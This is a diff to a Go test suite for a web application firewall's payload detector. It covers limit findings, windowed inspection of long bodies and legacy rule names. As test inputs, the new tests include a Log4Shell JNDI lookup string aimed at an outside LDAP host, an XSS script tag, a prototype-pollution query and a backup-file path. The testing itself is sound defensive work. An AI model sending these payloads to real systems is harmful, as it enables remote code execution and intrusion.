@@ -9,7 +9,7 @@ import (
 	"github.com/rampartgw/rampart/detections/payload"
 )
 
-// fixed is a test analyser that reports one finding on fields whose decoded
+// fixed is a test analyzer that reports one finding on fields whose decoded
 // value contains its trigger.
 type fixed struct {
 	name, trigger string
@@ -39,8 +39,8 @@ func inspect(t *testing.T, d *payload.Detection, r *detections.Request) detectio
 
 func TestScoring(t *testing.T) {
 	t.Parallel()
-	weakA := fixed{"a", "aaa", payload.Finding{Rule: "a-weak", Score: payload.ScoreWarning}}
-	weakB := fixed{"b", "bbb", payload.Finding{Rule: "b-weak", Score: payload.ScoreNotice}}
+	weakA := fixed{"a", "aaa", payload.Finding{Rule: "a_weak", Score: payload.ScoreWarning}}
+	weakB := fixed{"b", "bbb", payload.Finding{Rule: "b_weak", Score: payload.ScoreNotice}}
 	d, err := payload.NewWith(payload.DefaultConfig(), []payload.Analyzer{weakA, weakB})
 	if err != nil {
 		t.Fatal(err)
@@ -52,9 +52,9 @@ func TestScoring(t *testing.T) {
 		score       int
 	}{
 		{"one weak signal passes", "x=aaa", false, "", "", 0},
-		{"two kinds of evidence add up", "x=aaa&y=bbb", true, "a-weak", "query:x", 5},
+		{"two kinds of evidence add up", "x=aaa&y=bbb", true, "a_weak", "query:x", 5},
 		{"the same rule counts once", "x=aaa&y=aaa&z=aaa", false, "", "", 0},
-		{"in one field too", "x=aaabbb", true, "a-weak", "query:x", 5},
+		{"in one field too", "x=aaabbb", true, "a_weak", "query:x", 5},
 	} {
 		t.Run(tc.name, func(t *testing.T) {
 			v := inspect(t, d, query(tc.query))
@@ -77,8 +77,12 @@ func TestModesAndExclusions(t *testing.T) {
 		want detections.Action
 	}{
 		{"enforced by default", func(*payload.Config) {}, detections.ActionBlock},
-		{"monitor mode", func(c *payload.Config) { c.Analyzers = map[string]payload.AnalyzerConfig{"xss": {Mode: "monitor"}} }, detections.ActionMonitor},
-		{"off", func(c *payload.Config) { c.Analyzers = map[string]payload.AnalyzerConfig{"xss": {Mode: "off"}} }, detections.ActionAllow},
+		{"monitor mode", func(c *payload.Config) {
+			c.Analyzers = map[string]payload.AnalyzerConfig{"xss": {Mode: detections.ModeMonitor}}
+		}, detections.ActionMonitor},
+		{"off", func(c *payload.Config) {
+			c.Analyzers = map[string]payload.AnalyzerConfig{"xss": {Mode: detections.ModeOff}}
+		}, detections.ActionAllow},
 		{"rule excluded on a field", func(c *payload.Config) {
 			c.Exclusions = []payload.Exclusion{{Fields: []string{"query:q"}, Rules: []string{"xss"}}}
 		}, detections.ActionAllow},
@@ -99,9 +103,9 @@ func TestModesAndExclusions(t *testing.T) {
 		})
 	}
 	cfg := payload.DefaultConfig()
-	cfg.Analyzers = map[string]payload.AnalyzerConfig{"nope": {Mode: "off"}}
+	cfg.Analyzers = map[string]payload.AnalyzerConfig{"nope": {Mode: detections.ModeOff}}
 	if _, err := payload.New(cfg); err == nil {
-		t.Error("an unknown analyser was accepted")
+		t.Error("an unknown analyzer was accepted")
 	}
 }
 
@@ -150,12 +154,13 @@ func TestCleanRequestsAllocateNothing(t *testing.T) {
 	if raceEnabled {
 		t.Skip("allocation counts are meaningless under the race detector")
 	}
-	d := newDefault(t)
-	r := cleanGET()
 	ctx := t.Context()
-	_, _ = d.Inspect(ctx, r)
-	if n := testing.AllocsPerRun(200, func() { _, _ = d.Inspect(ctx, r) }); n != 0 {
-		t.Errorf("%v allocations per clean GET, want 0", n)
+	for name, d := range map[string]*payload.Detection{"uncached": newUncached(t), "cached": newDefault(t)} {
+		r := cleanGET()
+		_, _ = d.Inspect(ctx, r)
+		if n := testing.AllocsPerRun(200, func() { _, _ = d.Inspect(ctx, r) }); n != 0 {
+			t.Errorf("%s: %v allocations per clean GET, want 0", name, n)
+		}
 	}
 }
 
@@ -186,5 +191,129 @@ func TestBenignLookalikes(t *testing.T) {
 				t.Errorf("%s %q: blocked by %s (score %d)", kind, v, got.Rule, got.Score)
 			}
 		}
+	}
+}
+
+// TestLimitsAreFindings: an inspection limit is a protocol_limit finding
+// named by the verdict's location, never a silent end of inspection.
+func TestLimitsAreFindings(t *testing.T) {
+	t.Parallel()
+	junk := strings.Repeat("a=1&", 5001)
+	multipart := func(parts int) *detections.Request {
+		var b strings.Builder
+		for i := 0; i < parts; i++ {
+			b.WriteString("--b\r\nContent-Disposition: form-data; name=\"f\"\r\n\r\nx\r\n")
+		}
+		b.WriteString("--b--\r\n")
+		return &detections.Request{Method: "POST", Path: "/u", RawPath: "/u", Body: []byte(b.String()),
+			Header: http.Header{"Content-Type": {"multipart/form-data; boundary=b"}}}
+	}
+	jsonBody := func(body string) *detections.Request {
+		return &detections.Request{Method: "POST", Path: "/j", RawPath: "/j", Body: []byte(body),
+			Header: http.Header{"Content-Type": {"application/json"}}}
+	}
+	log4shell := query(junk)
+	log4shell.Header.Set("User-Agent", "${jndi:ldap://203.0.113.9/a}")
+	for _, tc := range []struct {
+		name      string
+		cfg       func(*payload.Config)
+		r         *detections.Request
+		want      detections.Action
+		rule, loc string
+	}{
+		{"too many fields", nil, query(junk), detections.ActionBlock, payload.RuleProtocolLimit, "limit:max_fields"},
+		{"headers are inspected before the junk", func(c *payload.Config) {
+			c.Analyzers = map[string]payload.AnalyzerConfig{"protocol_limit": {Mode: detections.ModeOff}}
+		}, log4shell, detections.ActionBlock, payload.RuleLog4Shell, "header:User-Agent"},
+		{"a limit in monitor mode", func(c *payload.Config) {
+			c.Analyzers = map[string]payload.AnalyzerConfig{"protocol_limit": {Mode: detections.ModeMonitor}}
+		}, query(junk), detections.ActionMonitor, payload.RuleProtocolLimit, "limit:max_fields"},
+		{"excluded on a route", func(c *payload.Config) {
+			c.Exclusions = []payload.Exclusion{{Path: "/p", Rules: []string{"protocol-limit"}}}
+		}, query(junk), detections.ActionAllow, "", ""},
+		{"fields below the limit", nil, query(strings.Repeat("a=1&", 100)), detections.ActionAllow, "", ""},
+		{"deep json", nil, jsonBody(strings.Repeat(`{"a":`, 70) + "1" + strings.Repeat("}", 70)),
+			detections.ActionBlock, payload.RuleProtocolLimit, "limit:max_depth"},
+		{"json at the depth limit", nil, jsonBody(strings.Repeat(`{"a":`, 60) + "1" + strings.Repeat("}", 60)),
+			detections.ActionAllow, "", ""},
+		{"too many parts", func(c *payload.Config) { c.MaxParts = 10 }, multipart(11),
+			detections.ActionBlock, payload.RuleProtocolLimit, "limit:max_parts"},
+		{"parts at the limit", func(c *payload.Config) { c.MaxParts = 10 }, multipart(10), detections.ActionAllow, "", ""},
+		{"a long value", func(c *payload.Config) { c.MaxValueBytes = 1000 }, query("q=" + strings.Repeat("x", 1001)),
+			detections.ActionBlock, payload.RuleProtocolLimit, "limit:max_value_bytes"},
+	} {
+		t.Run(tc.name, func(t *testing.T) {
+			cfg := payload.DefaultConfig()
+			if tc.cfg != nil {
+				tc.cfg(&cfg)
+			}
+			d, err := payload.New(cfg)
+			if err != nil {
+				t.Fatal(err)
+			}
+			v := inspect(t, d, tc.r)
+			if v.Action != tc.want || v.Rule != tc.rule || v.Location != tc.loc {
+				t.Errorf("%v %s at %q, want %v %s at %q", v.Action, v.Rule, v.Location, tc.want, tc.rule, tc.loc)
+			}
+		})
+	}
+}
+
+// TestLongValuesAreInspectedWhole: a value longer than the normaliser's
+// input bound is inspected in windows, so a payload at its end is found.
+func TestLongValuesAreInspectedWhole(t *testing.T) {
+	t.Parallel()
+	d := newDefault(t)
+	pad := strings.Repeat("lorem ipsum ", 40000) // 480 KB
+	for _, tail := range []string{"<script>alert(1)</script>", "${jndi:ldap://x/a}"} {
+		r := &detections.Request{Method: "POST", Path: "/t", RawPath: "/t", Body: []byte(pad + tail),
+			Header: http.Header{"Content-Type": {"text/plain"}}}
+		if v := inspect(t, d, r); v.Action != detections.ActionBlock {
+			t.Errorf("%q after %d bytes: %v", tail, len(pad), v.Action)
+		}
+	}
+}
+
+// TestOldSpellings: analyzer names and exclusion rules of earlier versions
+// (kebab case, renamed ids) still configure the same thing.
+func TestOldSpellings(t *testing.T) {
+	t.Parallel()
+	attack := query("__proto__%5Badmin%5D=1")
+	for _, tc := range []struct {
+		name string
+		cfg  func(*payload.Config)
+	}{
+		{"analyzer", func(c *payload.Config) {
+			c.Analyzers = map[string]payload.AnalyzerConfig{"proto-pollution": {Mode: detections.ModeOff}}
+		}},
+		{"exclusion", func(c *payload.Config) {
+			c.Exclusions = []payload.Exclusion{{Rules: []string{"proto-pollution"}}}
+		}},
+	} {
+		t.Run(tc.name, func(t *testing.T) {
+			cfg := payload.DefaultConfig()
+			tc.cfg(&cfg)
+			d, err := payload.New(cfg)
+			if err != nil {
+				t.Fatal(err)
+			}
+			if v := inspect(t, d, attack); v.Action != detections.ActionAllow {
+				t.Errorf("%v by %s", v.Action, v.Rule)
+			}
+		})
+	}
+	backup := &detections.Request{Method: "GET", Header: http.Header{}, Path: "/db.sql", RawPath: "/db.sql"}
+	cfg := payload.DefaultConfig()
+	cfg.Exclusions = []payload.Exclusion{{Rules: []string{"protocol-restricted-file"}}}
+	d, err := payload.New(cfg)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if v := inspect(t, d, backup); v.Action != detections.ActionAllow {
+		t.Errorf("renamed rule not excluded: %v by %s", v.Action, v.Rule)
+	}
+	cfg.Analyzers = map[string]payload.AnalyzerConfig{"xss": {}, "XSS": {}}
+	if _, err := payload.New(cfg); err == nil {
+		t.Error("an analyzer configured twice was accepted")
 	}
 }
